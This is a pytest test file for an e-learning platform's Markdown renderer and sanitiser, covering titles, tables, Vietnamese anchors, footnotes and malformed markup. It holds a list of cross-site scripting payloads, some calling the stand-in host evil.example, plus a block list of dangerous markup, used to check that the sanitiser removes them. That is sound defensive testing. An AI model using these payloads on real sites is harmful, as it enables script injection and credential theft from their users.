"""Lesson Markdown: rendered once with tables, anchors, fenced code and footnotes, and
sanitised so that nothing a trainer writes can run in a learner's browser."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.content.markdown import (
    lesson_problems,
    markup_problems,
    render,
    sanitise,
    slug_of_heading,
    title_of,
)

XSS_PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src="x" onerror="alert(1)">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object>',
    '<embed src="evil.swf">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    '<div onclick="alert(1)">click</div>',
    '<body onload="alert(1)">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<details open ontoggle="alert(1)">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<base href="https://evil.example/">',
    "<style>body{display:none}</style>",
    "[click me](javascript:alert(1))",
    "[click me](data:text/html,<script>alert(1)</script>)",
    "![image](javascript:alert(1))",
    '<a href="https://ok.example" onmouseover="alert(1)">ok</a>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
]

FORBIDDEN = [
    "<script", "onerror", "onload", "onclick", "onmouseover", "ontoggle", "javascript:",
    "vbscript:", "data:", "<iframe", "<object", "<embed", "<form", "<input", "style=",
    "<style", "<meta", "<link", "<base", "<svg", "<template",
]  # fmt: skip
#: an image may come from the platform's media or the web, from nowhere else
UNSAFE_IMAGE = re.compile(r'<img[^>]*\ssrc(set)?="(?!/media/\d+/|https?://)')


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_rendered_lesson_carries_no_script_or_dangerous_markup(payload):
    html = render(f"# Title\n\nText before.\n\n{payload}\n\nText after.\n").html.lower()
    for needle in FORBIDDEN:
        assert needle not in html, f"{needle!r} survived in {html!r}"
    assert not UNSAFE_IMAGE.search(html), html
    assert "text before." in html  # the lesson around the payload survives


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_sanitise_is_stable(payload):
    once = sanitise(payload)
    assert sanitise(once) == once


def test_title_comes_from_first_heading_and_is_not_repeated_in_body():
    rendered = render("# Chuyển đổi số là gì?\n\nĐoạn văn.\n")
    assert rendered.title == "Chuyển đổi số là gì?"
    assert "<h1" not in rendered.html
    assert "<p>Đoạn văn.</p>" in rendered.html


def test_lesson_without_title_has_none():
    assert title_of("Some text\n# Late heading\n") is None


def test_tables_are_rendered_in_a_box_that_scrolls_and_takes_focus():
    html = render("# T\n\n| Bước | KPI |\n|---|---|\n| 1 | Lượt truy cập |\n").html
    assert "<table>" in html and "<th>Bước</th>" in html and "<td>Lượt truy cập</td>" in html
    assert '<div class="table-scroll" tabindex="0"><table>' in html and "</table></div>" in html


def test_a_table_heading_cell_left_empty_is_reported_on_its_line():
    source = "# T\n\n| | Trước | Sau |\n|---|---|---|\n| Khách | 3 | 5 |\n"
    assert [(p.line, p.template[:31]) for p in lesson_problems(source)] == [
        (3, "a table's heading cell is empty")
    ]
    assert lesson_problems(source.replace("| | Trước", "| Chỉ số | Trước")) == []


def test_headings_get_ascii_anchors_from_vietnamese():
    html = render("# T\n\n## Bạn sẽ làm được gì\n\n### Đo lường\n").html
    assert '<h2 id="ban-se-lam-duoc-gi">' in html
    assert '<h3 id="do-luong">' in html
    assert slug_of_heading("Ví dụ: Cà phê Sông Hàn", "-") == "vi-du-ca-phe-song-han"


def test_fenced_code_is_kept_escaped():
    html = render("# T\n\n```\n<b>not bold</b>\n```\n").html
    assert "<pre><code>&lt;b&gt;not bold&lt;/b&gt;" in html


def test_footnotes_link_both_ways():
    html = render("# T\n\nA claim.[^1]\n\n[^1]: The source.\n").html
    assert 'href="#fn:1"' in html and 'id="fn:1"' in html and 'href="#fnref:1"' in html


def test_checklist_items_become_plain_task_bullets():
    html = render("# T\n\n- [ ] Đo lượt truy cập\n- [x] Lập trang web\n").html
    assert '<li class="task">Đo lượt truy cập</li>' in html
    assert "[ ]" not in html and "[x]" not in html


def test_safe_links_keep_their_target_and_get_noopener():
    html = render("# T\n\n[Bộ KH&ĐT](https://example.vn/a?b=1)\n").html
    assert 'href="https://example.vn/a?b=1"' in html
    assert 'rel="noopener noreferrer"' in html


@pytest.mark.parametrize("tag", ["style", "script", "form", "iframe", "template", "TEXTAREA"])
def test_an_element_that_would_swallow_the_text_after_it_is_reported_on_its_line(tag):
    source = f"# Bài\n\nMột câu có <{tag}> ở giữa,\nvà phần còn lại.\n"
    assert markup_problems(source) == [
        (3, f"<{tag.lower()}> is not allowed in a lesson: what follows it would be dropped")
    ]


def test_markup_in_code_is_shown_as_written_and_not_reported():
    source = "# Bài\n\nViết `<script>` trong mã.\n\n```html\n<style>p {}</style>\n```\n"
    assert markup_problems(source) == []
    assert "&lt;script&gt;" in render(source).html


def test_a_comment_left_open_is_reported_and_a_closed_one_is_not():
    assert markup_problems("# Bài\n\n<!-- ghi chú -->\nChữ.\n") == []
    assert markup_problems("# Bài\n\nChữ <!-- quên đóng\nChữ nữa.\n") == [
        (3, "a comment <!-- that is never closed hides the rest of the lesson")
    ]


WORDS = st.text(alphabet="abcdefghij", min_size=3, max_size=8)
TAGS = st.sampled_from(
    ["<b>", "</b>", "<em>", "<span>", "<div>", "<u>", "<x-note>", "<!--", "-->"]
    + ["<style>", "<script>", "<form>", "<template>", "<iframe>"]
)


@given(st.lists(st.one_of(WORDS, TAGS), min_size=1, max_size=30))
def test_whatever_is_not_reported_keeps_every_word_of_the_lesson(pieces):
    source = "# Bài\n\n" + " ".join(pieces) + "\n"
    if markup_problems(source):
        return
    shown = render(source).html
    meant = re.sub(r"<!--.*?-->", "", " ".join(pieces), flags=re.DOTALL)  # a note, on purpose
    assert all(word in shown for word in meant.split() if word.isalpha())


def test_a_lesson_that_would_take_long_to_render_is_reported():
    assert markup_problems("# Bài\n\n" + "[a](b) " * 501)[0][1].startswith(
        "the lesson holds 501 '[' and '<' (at most 500)"
    )
    assert "longer than 100000 characters" in markup_problems("# Bài\n\n" + "chữ " * 30_000)[0][1]


def test_a_lesson_title_longer_than_a_title_can_be_is_reported():
    problems = lesson_problems("# " + "Một tiêu đề rất dài " * 12 + "\n\nNội dung.\n")
    assert [(p.line, p.params) for p in problems] == [(1, {"max": 200})]
